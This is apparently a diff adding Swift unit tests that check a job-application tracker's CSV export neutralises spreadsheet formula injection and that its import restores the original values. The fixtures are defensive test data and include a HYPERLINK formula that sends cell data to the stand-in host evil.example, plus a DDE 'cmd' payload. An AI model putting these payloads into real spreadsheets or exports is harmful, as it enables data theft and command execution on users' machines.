@@ -140,4 +140,33 @@ import Testing
         #expect(preview.rows.map(\.moves) == items.map(\.moves))
         #expect(preview.rows.map(\.contact) == items.map(\.contact))
     }
+
+    /// OWASP's CSV injection: no cell of an export starts a formula, and the import undoes it.
+    @Test func formulas_are_neutralised_in_the_export_and_restored_on_import() throws {
+        let hostile = #"=HYPERLINK("http://evil.example/?x="&A1,"click")"#
+        let items = [
+            ApplicationsCSV.ExportItem(
+                draft: ApplicationDraft(company: hostile, roleTitle: "+1 Developer", location: "@Leeds", nextAction: "-call them", notes: "=1+2"),
+                stage: .applied, moves: [.init(.applied, on: LocalDate(iso: "2026-11-01")!)],
+                contact: ContactDraft(name: "=cmd|' /C calc'!A0", role: "-Recruiter", email: "", profileURL: "")),
+        ]
+        let csv = ApplicationsCSV.export(items)
+        for line in csv.split(separator: "\r\n").dropFirst() {
+            for cell in line.split(separator: ",", omittingEmptySubsequences: false) {
+                let text = cell.hasPrefix("\"") ? cell.dropFirst() : cell
+                #expect(!(text.first.map { "=+-@\t\r".contains($0) } ?? false), "a live formula: \(cell)")
+            }
+        }
+        #expect(csv.contains("'=HYPERLINK"))
+        let preview = try ApplicationsCSV.preview(csv, existingKeys: [], today: today)
+        #expect(preview.errors.isEmpty)
+        #expect(preview.rows.map(\.draft) == items.map(\.draft))
+        #expect(preview.rows.map(\.contact) == items.map(\.contact))
+    }
+
+    @Test(arguments: [("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@a", "'@a"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain", "plain"), ("'=kept", "''=kept"), ("'plain", "'plain"), ("", "")])
+    func a_cell_is_neutralised_only_when_it_starts_a_formula(_ raw: String, _ written: String) {
+        #expect(ApplicationsCSV.neutralised(raw) == written)
+        #expect(ApplicationsCSV.restored(ApplicationsCSV.neutralised(raw)) == raw)
+    }
 }
